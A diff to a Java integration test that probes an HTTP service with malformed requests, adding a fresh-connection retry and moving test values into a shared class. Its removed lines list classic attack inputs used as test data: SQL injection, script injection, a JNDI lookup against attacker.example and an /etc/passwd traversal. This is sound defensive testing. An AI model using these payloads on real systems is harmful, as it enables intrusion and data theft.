@@ -9,6 +9,7 @@ import com.fasterxml.jackson.databind.node.JsonNodeFactory;
 import com.fasterxml.jackson.databind.node.ObjectNode;
 import dev.dkssweep.operator.EmbeddedPostgresResource;
 import dev.dkssweep.operator.Fixtures;
+import dev.dkssweep.sweep.document.BadValues;
 import dev.dkssweep.sweep.protocol.ProtocolJson;
 import dev.dkssweep.sweep.protocol.TrialId;
 import dev.dkssweep.sweep.store.ResultStore;
@@ -77,22 +78,35 @@ class BadRequestsIT {
     return new Answer(r.statusCode(), r.body());
   }
 
+  /** {@link #send} on a connection of its own. */
+  Answer sendAlone(Probe p) throws Exception {
+    HttpClient fresh = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();
+    HttpRequest.Builder b =
+        HttpRequest.newBuilder(base.resolve(p.path())).header("Content-Type", "application/json");
+    if (p.token() != null) {
+      b.header("Authorization", p.token());
+    }
+    b.method(
+        p.method(),
+        p.method().equals("POST")
+            ? HttpRequest.BodyPublishers.ofString(p.body() == null ? "" : p.body())
+            : HttpRequest.BodyPublishers.noBody());
+    HttpResponse<String> r = fresh.send(b.build(), HttpResponse.BodyHandlers.ofString());
+    return new Answer(r.statusCode(), r.body());
+  }
+
   String bearer(String trialId) {
     return "Bearer " + tokens.token(TrialId.parse(trialId).attempt(1));
   }
 
-  static final List<Supplier<JsonNode>> OTHER_KINDS =
-      List.of(
-          () -> F.textNode("x"),
-          () -> F.numberNode(3.5),
-          () -> F.numberNode(-1),
-          () -> F.booleanNode(true),
-          () -> F.arrayNode().add(1),
-          () -> F.objectNode().put("a", 1),
-          () -> F.nullNode(),
-          () -> F.numberNode(new java.math.BigInteger("99999999999999999999999")),
-          () -> F.textNode("NaN"),
-          () -> F.textNode(""));
+  /** Every kind of value, and null (which a protocol document must not carry). */
+  static final List<Supplier<JsonNode>> OTHER_KINDS = withNull();
+
+  static List<Supplier<JsonNode>> withNull() {
+    List<Supplier<JsonNode>> all = new ArrayList<>(BadValues.OF_EVERY_KIND);
+    all.add(F::nullNode);
+    return all;
+  }
 
   /** Numbers at and beyond the edges (as JSON text; some are not valid JSON numbers at all). */
   static final List<String> EXTREMES =
@@ -110,22 +124,7 @@ class BadRequestsIT {
           "1.0000000000000002",
           "123456789012345678901234567890.5");
 
-  static final List<String> HOSTILE =
-      List.of(
-          "'; DROP TABLE metric_points; --",
-          "<script>alert(1)</script>",
-          "<img src=x onerror=alert(1)>",
-          "${jndi:ldap://attacker.example/a}",
-          "../../etc/passwd",
-          "\u202eevil",
-          "nul\u0000",
-          "bell\u0007",
-          "emoji \uD83D\uDE80",
-          "x".repeat(129),
-          "x".repeat(100_000),
-          "%00%2e%2e",
-          "a\nb",
-          "é");
+  static final List<String> HOSTILE = BadValues.HOSTILE_STRINGS;
 
   static void leaves(JsonNode n, String path, List<String> out) {
     if (n.isObject()) {
@@ -153,7 +152,7 @@ class BadRequestsIT {
   }
 
   static String kind(JsonNode n) {
-    return n.isNumber() ? "number" : n.isTextual() ? "text" : n.isBoolean() ? "boolean" : "other";
+    return BadValues.kind(n);
   }
 
   static String enc(String s) {
@@ -344,22 +343,27 @@ class BadRequestsIT {
     long inserted = 0;
     List<String> acceptedNames = new ArrayList<>();
     int closed = 0;
+    int reconnected = 0;
     for (Probe p : probes) {
       Answer a;
       try {
         a = send(p);
-      } catch (java.io.IOException e) {
-        // the HTTP layer closes a connection whose request line or headers exceed its limits
-        // (4 KiB, 8 KiB) before the application sees it: refused, with nothing written
-        // (and so does Vert.x for an encoded percent that decodes to a dot segment, %252e%252e)
-        if (p.path().length() > 4_000
-            || p.path().contains("%252e")
-            || (p.token() != null && p.token().length() > 8_000)) {
-          closed++;
+      } catch (java.io.IOException first) {
+        // a kept-alive connection the server closed after the previous request fails the next
+        // one: the same request once more, on a new connection, tells which it was
+        try {
+          a = sendAlone(p);
+          reconnected++;
+        } catch (java.io.IOException e) {
+          // the HTTP layer closes a connection whose request line or headers exceed its limits
+          // (4 KiB, 8 KiB) before the application sees it: refused, with nothing written
+          if (p.path().length() > 4_000 || (p.token() != null && p.token().length() > 8_000)) {
+            closed++;
+            continue;
+          }
+          wrong.add(p.family() + " " + cut(p.path()) + ": " + e);
           continue;
         }
-        wrong.add(p.family() + " " + cut(p.path()) + ": " + e);
-        continue;
       }
       byStatus.computeIfAbsent(p.family() + " " + a.status(), k -> new int[1])[0]++;
       String where = p.family() + " " + p.method() + " " + cut(p.path()) + " " + cut(p.body());
@@ -404,7 +408,13 @@ class BadRequestsIT {
     }
     StringBuilder report =
         new StringBuilder(
-            "bad requests: " + probes.size() + " sent, " + closed + " closed by the HTTP layer\n");
+            "bad requests: "
+                + probes.size()
+                + " sent, "
+                + closed
+                + " closed by the HTTP layer, "
+                + reconnected
+                + " sent again on a new connection\n");
     byStatus.forEach(
         (k, v) -> report.append("  ").append(k).append(": ").append(v[0]).append('\n'));
     System.out.println(report);
